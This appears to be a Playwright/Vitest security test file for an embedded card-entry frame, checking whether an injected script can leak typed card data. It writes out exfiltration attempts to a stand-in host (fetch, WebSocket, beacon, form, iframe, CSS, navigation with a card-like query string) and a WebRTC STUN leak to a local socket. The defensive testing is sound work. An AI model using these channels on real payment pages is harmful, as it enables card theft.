import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import type { Frame } from 'playwright-core';
import { afterEach, beforeAll, beforeEach, expect, it, onTestFinished } from 'vitest';
import { openFrame } from './support/frame-host.ts';
import { frameIn, servePage } from './support/frame-in-page.ts';
import { Person } from './support/person.ts';
import { openAccount } from './support/sandbox.ts';

// A script that was brought into the frame, such as by an extension, and what it can send to somebody else.

/** Where somebody would like to send a card. */
const ELSEWHERE = 'http://elsewhere.example';

const person = new Person();
let address = '';
/** The origin of a page that the frame lists. */
let listed = '';
/** What has reached the place where nothing should arrive. */
let arrived: string[] = [];

beforeAll(async () => {
  const { cards } = await openAccount();
  [address, listed] = await Promise.all([openFrame(cards), servePage('127.0.0.1')]);
});

beforeEach(async () => {
  await person.enter();
  arrived = [];
  await person.context.route(`${ELSEWHERE}/**`, async (route) => {
    arrived.push(route.request().url());
    await route.fulfill({ body: '' });
  });
});

afterEach(() => person.leave());

const open = (origin: string) => frameIn(person.page, origin, address);

it('what is typed is not sent elsewhere from the frame by requests, windows, forms, frames or styles', async () => {
  const { page, frame } = await open(listed);
  const tried = await frame.evaluate(async (url) => {
    const results: Record<string, string> = {};
    const attempt = async (name: string, act: () => unknown) => {
      results[name] = await Promise.resolve()
        .then(act)
        .then(
          (value) => `${value}`,
          () => 'failed',
        );
    };
    await attempt('fetch', () => fetch(`${url}/fetch`, { mode: 'no-cors' }));
    await attempt(
      'socket',
      () =>
        new Promise((resolve) =>
          Object.assign(new WebSocket('ws://elsewhere.example/'), { onerror: () => resolve('failed') }),
        ),
    );
    await attempt(
      'image',
      () =>
        new Promise((resolve) =>
          Object.assign(new Image(), { src: `${url}/image`, onerror: () => resolve('failed') }),
        ),
    );
    await attempt('window', () => `${window.open(`${url}/window`)}`);
    await attempt('beacon', () => navigator.sendBeacon(`${url}/beacon`, '4242') && 'queued');
    await attempt('form', () => {
      const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'get' });
      document.body.append(form);
      form.submit();
    });
    await attempt('frame', () =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${url}/frame` })),
    );
    await attempt('style', () => Object.assign(document.body.style, { background: `url(${url}/style)` }));
    return results;
  }, ELSEWHERE);
  expect(tried).toMatchObject({ fetch: 'failed', socket: 'failed', image: 'failed', window: 'null' });
  await page.evaluate(() => new Promise(requestAnimationFrame));
  expect(frame.url()).toBe(address); // nor has it been navigated
  expect(arrived).toEqual([]);
});

/** Navigates the frame away, with what is typed, by a script in it. */
async function leave(frame: Frame): Promise<void> {
  await frame.evaluate((url) => {
    location.href = `${url}/left?4242424242424242`;
  }, ELSEWHERE);
}

it('a script in the frame can navigate it away, where no policy of the page has a frame-src', async () => {
  const { page, frame } = await open(listed);
  const left = page.waitForEvent('framenavigated', (one) => one.url().startsWith(ELSEWHERE));
  await leave(frame);
  await left;
  expect(arrived).toEqual([`${ELSEWHERE}/left?4242424242424242`]);
});

it('a script in the frame cannot navigate it elsewhere, where the policy of the page has a frame-src', async () => {
  const { page, frame } = await open(await servePage('127.0.0.1', `frame-src ${new URL(address).origin}`));
  const refused = page.evaluate(
    () =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          resolve(effectiveDirective),
        );
      }),
  );
  await leave(frame);
  expect(await refused).toBe('frame-src');
  expect(arrived).toEqual([]);
});

it('a script in the frame can send by WebRTC, which no header of the frame stops', async () => {
  const place = createSocket('udp4').bind(0, '127.0.0.1');
  await once(place, 'listening');
  onTestFinished(() => void place.close());
  const { frame } = await open(listed);
  const datagram = once(place, 'message');
  await frame.evaluate(async (port) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    connection.createDataChannel('any');
    await connection.setLocalDescription();
  }, place.address().port);
  await datagram;
});
